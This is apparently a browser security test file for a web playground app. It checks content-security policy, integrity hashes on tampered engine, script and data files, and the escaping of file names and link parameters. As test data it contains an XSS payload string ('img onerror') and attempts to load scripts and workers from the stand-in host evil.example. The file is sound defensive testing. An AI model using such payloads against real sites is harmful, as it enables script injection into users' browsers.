// What holds against a hostile host, link or file: the policy of the page, hashes of what it loads, names shown as text.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { finished, ready, runToEnd, start } from "./site.mjs";

let site;
before(async () => {
  site = await start();
});
after(() => site.stop());

const SHORT = "v=1&steps=20&tepochs=1";
/** Runs if it is ever taken for markup. */
const NAME = "<img src=x onerror=globalThis.hacked=1>\"'&";
const hacked = (page) => page.evaluate(() => globalThis.hacked);

test("text that is no code does not become any, whoever tries", async () => {
  const { page } = await site.open();
  await ready(page);
  const tried = await page.evaluate(async () => {
    const text = "globalThis.hacked = 1";
    const attempts = {
      markup: () => {
        document.body.innerHTML = "<p>";
      },
      fragment: () => document.createRange().createContextualFragment("<p>"),
      parser: () => new DOMParser().parseFromString("<p>", "text/html"),
      script: () => {
        document.createElement("script").text = text;
      },
      "other script": () => {
        document.createElement("script").src = "https://evil.example/x.js";
      },
      worker: () => new Worker("https://evil.example/x.js"),
      "own worker by text": () => new Worker("./www/main.js"),
      "another policy": () => globalThis.trustedTypes.createPolicy("other", { createHTML: (given) => given }),
      "our policy again": () =>
        globalThis.trustedTypes.createPolicy("retort", { createHTML: (given) => given }),
    };
    const let_through = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        attempt();
        let_through.push(name);
      } catch {}
    }
    // These are refused without an exception.
    const element = document.createElement("div");
    element.setAttribute("style", "color: red");
    document.body.append(element);
    if (getComputedStyle(element).color === "rgb(255, 0, 0)") let_through.push("style");
    const answer = await fetch("https://evil.example/").catch(() => null);
    if (answer) let_through.push("fetch");
    return {
      let_through,
      policy: document.querySelector("meta[http-equiv]").content,
      referrer: document.referrer,
    };
  });
  assert.deepEqual(tried.let_through, []);
  assert.match(tried.policy, /^default-src 'none'; /);
  assert.equal(await hacked(page), undefined);
});

test("with the documented headers everything works: a run, a frame without rights, a report, the measurement", async () => {
  const threats = readFileSync(fileURLToPath(new URL("../../docs/threats.md", import.meta.url)), "utf8");
  const [, block] = threats.match(/```http\n([\s\S]+?)```/);
  const headers = Object.fromEntries(
    block
      .trim()
      .split("\n")
      .map((line) => line.split(/: (.*)/s).slice(0, 2)),
  );
  assert.ok(headers["Content-Security-Policy"] && headers["Referrer-Policy"]);
  const strict = async (page) => {
    await page.route(`${site.home}**`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, headers: { ...response.headers(), ...headers } });
    });
  };
  const { page, errors } = await site.open({ hash: SHORT, before: strict });
  await ready(page);
  await runToEnd(page);
  assert.equal(await page.locator(".prints code").count(), 4);
  await page.click("#panel-export > summary");
  await Promise.all([page.waitForEvent("download"), page.click("#report-save")]);
  await page.goto(`${site.home}bench.html?lang=en`);
  await page.click("#measure");
  await page.waitForFunction(
    () => /\d/.test(document.querySelector(".results td")?.textContent ?? ""),
    null,
    {
      timeout: 60_000,
    },
  );
  assert.deepEqual(errors, []);

  const course = await site.course(
    `<iframe title="Playground" sandbox="allow-scripts" width="900" height="700" src="{home}?lang=en&embed=1&load=eager#${SHORT}"></iframe>`,
    { before: strict },
  );
  const frame = await (await course.page.locator("iframe").elementHandle()).contentFrame();
  await ready(frame);
  await frame.click("#run");
  await finished(frame);
  assert.equal(await frame.locator(".prints code").count(), 4);
  assert.deepEqual(course.errors, []);
});

/** Answers with one bit changed, at the same length. */
const changed = (pattern, at) => (page) =>
  page.route(pattern, async (route) => {
    const response = await route.fetch();
    const body = await response.body();
    body[at(body)] ^= 1;
    await route.fulfill({ response, body });
  });
const middle = (body) => Math.floor(body.length / 2);

test("an engine with one wrong bit is not run, and the page says that it did not arrive", async () => {
  const { page } = await site.open({ before: changed("**/engine/*.wasm", middle) });
  await page.waitForSelector(".run-bar .problem");
  assert.match(await page.textContent(".run-bar .problem"), /engine/i);
  assert.equal(await page.locator("#run:disabled").count(), 1);
  assert.ok((await page.locator(".results tbody tr").count()) > 0, "the stored run stays");
});

test("a script or a module of it with one wrong letter is not run", async () => {
  for (const pattern of ["**/www/main-*.js", "**/www/chunk-*.js"]) {
    const page = await site.blank();
    const refused = page.waitForEvent(
      "console",
      (message) => message.type() === "error" && /integrity/i.test(message.text()),
    );
    // A comment that ends the file: valid code, other bytes.
    await page.route(pattern, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: `${await response.text()}//` });
    });
    await page.goto(`${site.home}?lang=en`);
    await refused;
    assert.equal(await page.locator(".zones").count(), 0, pattern);
    await page.context().close();
  }
});

test("data with one wrong bit is refused and named", async () => {
  const { page } = await site.open({
    hash: "v=1&data=mnist",
    before: changed("**/mnist10k*images*", middle),
  });
  await ready(page);
  await page.click("#run");
  await page.waitForSelector(".run-bar .problem:not([role=alert]:empty)", { timeout: 60_000 });
  assert.match(await page.textContent(".run-bar"), /mnist10k|SHA-256|hash/i);
});

/** Drops files with these names onto the page. */
const drop = (page, files) =>
  page.evaluate((given) => {
    const data = new DataTransfer();
    for (const { name, text } of given) data.items.add(new File([text], name));
    document.dispatchEvent(new DragEvent("dragenter", { bubbles: true }));
    return new Promise((resolve) =>
      // What reads it is fetched when something is dragged in.
      setTimeout(() => {
        document.body.dispatchEvent(new DragEvent("drop", { bubbles: true, dataTransfer: data }));
        resolve(undefined);
      }, 1500),
    );
  }, files);

test("names of files are text, whatever they say", async () => {
  for (const [extension, shown] of [
    [".onnx", "#panel-models"],
    [".sweep.json", "#panel-sweep"],
    [".retort.json", ".share-file [role=status]"],
    [".zip", "#own"],
    [".png", "#own"],
  ]) {
    const { page } = await site.open();
    await ready(page);
    await page.waitForSelector(".panel");
    await drop(page, [{ name: `${NAME}${extension}`, text: "{" }]);
    await page.waitForFunction(
      (selector) => document.querySelector(selector)?.textContent.length > 20,
      shown,
    );
    await page.waitForTimeout(500);
    assert.equal(await page.locator("img[src=x]").count(), 0, extension);
    assert.equal(await hacked(page), undefined, extension);
    await page.context().close();
  }
});

test("a link is text, whatever it says", async () => {
  const hash = `v=1&T=${encodeURIComponent(NAME)}&${encodeURIComponent(NAME)}=1&data=${encodeURIComponent(NAME)}`;
  const { page, errors } = await site.open({
    hash,
    query: `lang=en&theme=${encodeURIComponent(NAME)}&chapter=&glossary=${encodeURIComponent(NAME)}&view=${encodeURIComponent(NAME)}`,
  });
  await ready(page);
  await page.waitForSelector(".problem:not(:empty)");
  assert.ok((await page.textContent("body")).includes("<img src=x"), "it is shown, as text");
  assert.equal(await page.locator("img[src=x]").count(), 0);
  assert.equal(await hacked(page), undefined);
  assert.deepEqual(errors, []);
});
